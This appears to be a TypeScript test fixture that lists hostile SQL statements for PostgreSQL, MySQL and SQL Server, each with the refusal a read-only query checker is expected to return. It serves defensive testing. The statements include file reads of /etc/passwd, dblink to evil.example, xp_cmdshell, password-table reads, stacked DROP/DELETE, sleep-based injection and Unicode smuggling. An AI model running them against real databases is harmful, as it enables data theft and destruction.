/**
 * More statements that must not run, by people who had read the first lists: calls in odd places, other names of the same
 * act, statements without a sign between them, and characters that look like others. Appended to the lists of each wall.
 */
export const moreHostile: Readonly<
  Record<"postgres" | "mysql" | "mssql", readonly (readonly [sql: string, reason: RegExp])[]>
> = {
  postgres: [
    [
      "select * from dblink('host=evil.example', 'select 1') as t(a int)",
      /The function dblink is refused because it reaches other servers or starts jobs\./,
    ],
    [
      "select U&\"pg_\\0072ead_file\"('/etc/passwd')",
      /The function pg_read_file is refused because it reaches files of the database server\./,
    ],
    ["select pg_sleep_until(now() + '50 ms')", /The function pg_sleep_until is refused because it only waits\./],
    [
      "select 1 where exists (select set_config('role', 'postgres', false))",
      /The function set_config is refused because it changes settings of the session, the role among them\./,
    ],
    [
      "select coalesce(nullif(lo_import('/etc/passwd'), 0), 1)",
      /The function lo_import is refused because it reads or writes large objects, which have no place in the model\./,
    ],
    [
      "select xpath('/row', query_to_xml($$delete from sales.orders returning 1$$, true, false, ''))",
      /The function query_to_xml is refused because it runs SQL that is held in a text, where it cannot be checked\./,
    ],
    ["select 1 /* ; */ ; /* */ delete from sales.orders", /The text holds more than one statement\./],
    ["explain analyze execute p", /EXPLAIN is not a query\./],
    ["fetch all from c", /FETCH is not a query\./],
    ["close all", /CLOSE PORTAL is not a query\./],
    ["unlisten *", /UNLISTEN is not a query\./],
    ["import foreign schema public from server s into public", /IMPORT FOREIGN SCHEMA is not a query\./],
    ["select * from (select * from sales.orders for share nowait) o", /The query locks the rows it reads\./],
    [
      "select pg_try_advisory_xact_lock_shared(1, 2)",
      /The function pg_try_advisory_xact_lock_shared is refused because it takes or frees locks\./,
    ],
    [
      "select currval('x'), nextval('sales.orders_id_seq'::regclass)",
      /The function nextval is refused because it moves a sequence on, which no transaction undoes\./,
    ],
    [
      "select pg_wal_replay_pause()",
      /The function pg_wal_replay_pause is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select pg_log_backend_memory_contexts(pg_backend_pid())",
      /The function pg_log_backend_memory_contexts is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select pg_export_snapshot()",
      /The function pg_export_snapshot is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select brin_summarize_new_values('x'::regclass)",
      /The function brin_summarize_new_values is refused because it maintains indexes or statistics\./,
    ],
    [
      "select pg_nextoid('pg_class', 'oid', 'pg_class_oid_index')",
      /The function pg_nextoid is refused because it moves a sequence on, which no transaction undoes\./,
    ],
    [
      "select pg_read_binary_file('base/1/1259', 0, 10)",
      /The function pg_read_binary_file is refused because it reaches files of the database server\./,
    ],
    [
      "select pg_current_logfile(), pg_ls_waldir()",
      /The function pg_current_logfile is refused because it reaches files of the database server\./,
    ],
    [
      "select pg_file_write('x', 'y', true)",
      /The function pg_file_write is refused because it reaches files of the database server\./,
    ],
    [
      "select pg_drop_replication_slot('x')",
      /The function pg_drop_replication_slot is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select pg_sync_replication_slots()",
      /The function pg_sync_replication_slots is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select pg_restore_relation_stats('schemaname', 'sales', 'relname', 'orders')",
      /The function pg_restore_relation_stats is refused because it maintains indexes or statistics\./,
    ],
    [
      "select pg_prewarm('sales.orders')",
      /The function pg_prewarm is refused because it controls the server or shows its inner state\./,
    ],
    [
      "select ts_rewrite('a'::tsquery, 'select pg_sleep(0.05)::text::tsquery, null')",
      /The function ts_rewrite is refused because it runs SQL that is held in a text, where it cannot be checked\./,
    ],
    [
      "select rolpassword from pg_catalog.pg_authid",
      /The relation pg_authid is refused because it holds passwords, other users' activity or the server's configuration\./,
    ],
    [
      "select * from pg_hba_file_rules",
      /The relation pg_hba_file_rules is refused because it holds passwords, other users' activity or the server's configuration\./,
    ],
    [
      "select * from pg_largeobject",
      /The relation pg_largeobject is refused because it holds passwords, other users' activity or the server's configuration\./,
    ],
    [
      "select * from pg_statistic",
      /The relation pg_statistic is refused because it holds passwords, other users' activity or the server's configuration\./,
    ],
    ["copy (select 1) to program 'id' with (format csv)", /COPY is not a query\./],
    [
      "select 'a'::regproc, to_regprocedure('pg_sleep(double precision)'), pg_sleep(0.05)",
      /The function pg_sleep is refused because it only waits\./,
    ],
    [
      "select array_agg(pg_cancel_backend(pid)) from pg_stat_activity",
      /The function pg_cancel_backend is refused because it controls the server or shows its inner state\./,
    ],
    ["table sales.orders; drop table sales.orders", /The text holds more than one statement\./],
    [
      "select 1 limit (select lo_creat(-1))",
      /The function lo_creat is refused because it reads or writes large objects, which have no place in the model\./,
    ],
    ["select sum(1) filter (where pg_sleep(0.05) is null)", /The function pg_sleep is refused because it only waits\./],
    [
      "select 1 from rows from (pg_ls_dir('/'), generate_series(1, 2)) x",
      /The function pg_ls_dir is refused because it reaches files of the database server\./,
    ],
    [
      "select json_value('{}', '$' default pg_sleep(0.05)::text on empty)",
      /The function pg_sleep is refused because it only waits\./,
    ],
    [
      "select case when true then pg_advisory_lock(1) end",
      /The function pg_advisory_lock is refused because it takes or frees locks\./,
    ],
    [
      "with recursive r as (select 1 union all select pg_sleep(0.05)::text::int from r) select * from r",
      /The function pg_sleep is refused because it only waits\./,
    ],
    [
      "with m as (merge into sales.orders o using sales.orders s on false when not matched then do nothing returning 1) select 1",
      /MERGE inside the query changes data\./,
    ],
    ["select 1 into unlogged loot", /SELECT INTO makes a table\./],
    ["comment on table sales.orders is 'x'", /COMMENT is not a query\./],
    [
      "select pg_catalog.pg_file_rename('a','b')",
      /The function pg_file_rename is refused because it reaches files of the database server\./,
    ],
    [
      "select net.http_post('http://x')",
      /The function http_post is refused because it reaches other servers or starts jobs\./,
    ],
  ],
  mysql: [
    [
      "/*!50000 delete from orders */",
      /The comment is refused because it hides code in a comment, which only some servers run\./,
    ],
    [
      "select /*M!100100 sleep(0.05) */ 1",
      /The comment is refused because it hides code in a comment, which only some servers run\./,
    ],
    [
      "/*M! drop table orders */",
      /The comment is refused because it hides code in a comment, which only some servers run\./,
    ],
    ["handler orders read first", /The query cannot be read/],
    ["do release_lock('x')", /The function release_lock is refused because it takes or frees locks\./],
    ["select get_lock('x', 100)", /The function get_lock is refused because it takes or frees locks\./],
    ["select release_all_locks()", /The function release_all_locks is refused because it takes or frees locks\./],
    ["select * from orders into @a, @b", /INTO is refused because it reaches files of the database server\./],
    [
      "select wait_for_executed_gtid_set('x')",
      /The function wait_for_executed_gtid_set is refused because it only waits\./,
    ],
    [
      "select setval(order_numbers, 1)",
      /The function setval is refused because it moves a sequence on, which no transaction undoes\./,
    ],
    ["select * from orders for update nowait", /UPDATE is refused because it begins another statement or writes\./],
    ["table orders into outfile '/tmp/x'", /INTO is refused because it reaches files of the database server\./],
    ["values (sleep(0.05))", /The function sleep is refused because it only waits\./],
    ["show variables", /The query cannot be read/],
    ["describe orders", /The query cannot be read/],
    ["analyze format=json delete from orders", /DELETE is refused because it begins another statement or writes\./],
    ["kill query 1", /KILL is refused because it begins another statement or writes\./],
    ["execute immediate concat('drop ', 'table orders')", /The query cannot be read/],
    ["execute s", /The query cannot be read/],
    ["if 1 then select 1; end if", /The text holds more than one statement\./],
    ["lock instance for backup", /LOCK is refused because it begins another statement or writes\./],
    ["reset master", /The query cannot be read/],
    ["change master to master_host='x'", /The query cannot be read/],
    [
      "create function x returns string soname 'y'",
      /CREATE is refused because it begins another statement or writes\./,
    ],
    ["set password = 'x'", /The query cannot be read/],
    ["set names latin1", /The query cannot be read/],
    ["select 1; select 2", /The text holds more than one statement\./],
    ["select `sleep`(10)", /The function sleep is refused because it only waits\./],
    ["select sleep\n(10)", /The function sleep is refused because it only waits\./],
    ["select * from orders where id = (select sleep(0.05))", /The function sleep is refused because it only waits\./],
    ["select * from orders order by sleep(0.05)", /The function sleep is refused because it only waits\./],
    [
      "select * from orders limit 1 procedure analyse(1,1)",
      /PROCEDURE is refused because it begins another statement or writes\./,
    ],
    ["select case when 1 then benchmark(1,1) end", /The function benchmark is refused because it only waits\./],
    [
      "select json_extract(load_file('x'), '$')",
      /The function load_file is refused because it reaches files of the database server\./,
    ],
    [
      "select * from json_table(load_file('x'), '$' columns(a int path '$')) j",
      /The function load_file is refused because it reaches files of the database server\./,
    ],
    [
      "select * from mysql.user",
      /The table mysql\.user is refused because it holds passwords, keys or other users' activity\./,
    ],
    [
      "select * from mysql.global_priv",
      /The table mysql\.global_priv is refused because it holds passwords, keys or other users' activity\./,
    ],
    [
      "select * from mysql.slow_log",
      /The table mysql\.slow_log is refused because it holds passwords, keys or other users' activity\./,
    ],
    ["select 1 as `/*! drop table */`, sleep(0.05)", /The function sleep is refused because it only waits\./],
    ["rename table a to b", /The query cannot be read/],
    ["replace into orders values (1)", /INTO is refused because it reaches files of the database server\./],
    ["select name_const('x', sleep(0.05))", /The function sleep is refused because it only waits\./],
    ["select 1 union select sleep(0.05)", /The function sleep is refused because it only waits\./],
    ["select (select 1 into @a)", /INTO is refused because it reaches files of the database server\./],
    [
      "select 1 from orders partition (p0) for update",
      /UPDATE is refused because it begins another statement or writes\./,
    ],
    ["select version_tokens_set('x')", /The function version_tokens_set is not one of the server's own\./],
    [
      "select asynchronous_connection_failover_add_source('a','b',1,'d',1)",
      /The function asynchronous_connection_failover_add_source is not one of the server's own\./,
    ],
    ["select spider_direct_sql('x','y','z')", /The function spider_direct_sql is not one of the server's own\./],
  ],
  mssql: [
    ["select 1 delete from dbo.Orders", /DELETE is refused because it begins another statement or writes\./],
    ["select 1 exec sp_who", /EXEC is refused because it begins another statement or writes\./],
    ["exec ('drop table x')", /EXEC is refused because it begins another statement or writes\./],
    ["sp_executesql N'select 1'", /The query cannot be read/],
    ["xp_cmdshell 'dir'", /The query cannot be read/],
    [
      "select * from openrowset('SQLNCLI', 'x', 'select 1')",
      /OPENROWSET is refused because it reaches other servers\./,
    ],
    [
      "select * from openxml(@p1, '/x')",
      /The function openxml is refused because it controls the server or shows its inner state\./,
    ],
    ["select 1 as a into ##t", /INTO is refused because it begins another statement or writes\./],
    ["waitfor delay '0:0:10'", /WAITFOR is refused because it only waits\./],
    ["if 1=1 waitfor delay '0:0:5'", /IF is refused because it begins another statement or writes\./],
    ["select 1 dbcc checkdb", /DBCC is refused because it begins another statement or writes\./],
    ["backup database x to disk = 'c:\\x'", /BACKUP is refused because it begins another statement or writes\./],
    ["bulk insert x from '\\\\evil\\x'", /BULK is refused because it begins another statement or writes\./],
    ["declare @x int", /DECLARE is refused because it begins another statement or writes\./],
    ["select @x = 1", /The variable @x is refused/],
    ["set identity_insert x on", /SET is refused because it begins another statement or writes\./],
    ["raiserror('x', 16, 1)", /RAISERROR is refused because it begins another statement or writes\./],
    ["while 1=1 select 1", /WHILE is refused because it begins another statement or writes\./],
    ["break", /BREAK is refused because it begins another statement or writes\./],
    [
      "merge dbo.Orders using x on 1=1 when matched then delete;",
      /MERGE is refused because it begins another statement or writes\./,
    ],
    [
      "select * from (delete from dbo.Orders output deleted.*) x",
      /DELETE is refused because it begins another statement or writes\./,
    ],
    ["select * from dbo.Orders with (updlock, holdlock)", /The query locks the rows it reads\./],
    ["select next value for dbo.Numbers", /NEXT VALUE FOR moves a sequence on, which no transaction undoes\./],
    ["select * from fn_trace_gettable('c:\\x', 1)", /The function fn_trace_gettable is not one of the server's own\./],
    ["select * from sys.dm_exec_sql_text(0x1)", /The function sys\.dm_exec_sql_text is not one of the server's own\./],
    ["select dbo.MyFunc(1)", /The function dbo\.MyFunc is not one of the server's own\./],
    ["select * from dbo.MyTvf(1)", /The function dbo\.MyTvf is not one of the server's own\./],
    ["select * from [srv].[db].[dbo].[t]", /The table srv\.db\.dbo\.t is refused because it reaches other servers\./],
    ["select * from openquery (srv, 'x')", /OPENQUERY is refused because it reaches other servers\./],
    ["select * from predict(model = @m, data = x) with (a int) p", /The variable @m is refused/],
    [
      "select 'a' + (select top 1 'b' from openrowset('a','b','c'))",
      /OPENROWSET is refused because it reaches other servers\./,
    ],
    ["select suser_sname(), has_dbaccess('x')", /The function has_dbaccess is not one of the server's own\./],
    [
      "select decryptbypassphrase('a', 0x1)",
      /The function decryptbypassphrase is refused because it holds passwords, keys or other users' activity\./,
    ],
    [
      "select eventdata()",
      /The function eventdata is refused because it controls the server or shows its inner state\./,
    ],
    ["open c", /OPEN is refused because it begins another statement or writes\./],
    ["deallocate c", /DEALLOCATE is refused because it begins another statement or writes\./],
    ["select 1 execute as login='sa'", /EXECUTE is refused because it begins another statement or writes\./],
    ["deny select on x to y", /DENY is refused because it begins another statement or writes\./],
    ["add signature to x by certificate y", /The query cannot be read/],
    ["receive * from q", /The query cannot be read/],
    ["begin conversation timer (@x) timeout = 1", /BEGIN is refused because it begins another statement or writes\./],
    ["writetext x.y 0x 'z'", /WRITETEXT is refused because it begins another statement or writes\./],
    ["lineno 1", /The query cannot be read/],
    ["dump x", /The query cannot be read/],
    ["select 1 go drop table x", /DROP is refused because it begins another statement or writes\./],
    ["select N'x' drop table [x]", /DROP is refused because it begins another statement or writes\./],
    ["sel\u0435ct 1", /The query cannot be read/],
    ["select 1\u2003delete from x", /A character may end a word or a line here, and may not\./],
    ["select * from dbo.Orders for xml path, root('x') select 1", /cannot be read|may not|another statement/],
    ["select 1 from t for browse select 1", /cannot be read|may not|another statement/],
    ["select 1 from t for json auto sp_addlogin 'x'", /cannot be read|may not|another statement/],
    ["select 1 -- x\rdrop table x", /cannot be read|may not|another statement/],
    ["select 1 -- x\u2028drop table x", /cannot be read|may not|another statement/],
    ["select 1\u2003delete from x", /cannot be read|may not|another statement/],
    ["select 1\u200bdelete from x", /cannot be read|may not|another statement/],
  ],
};
